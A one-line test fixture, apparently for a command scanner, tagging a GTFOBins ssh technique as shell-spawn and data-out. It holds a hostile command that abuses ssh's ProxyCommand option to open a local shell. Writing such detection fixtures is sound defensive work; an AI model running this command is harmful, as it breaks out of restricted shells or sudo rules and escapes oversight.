# expect: shell-spawn,data-out
# source: GTFOBins ssh
# technique: ssh -o ProxyCommand runs a local command
ssh -o ProxyCommand=';sh 0<&2 1>&2' x
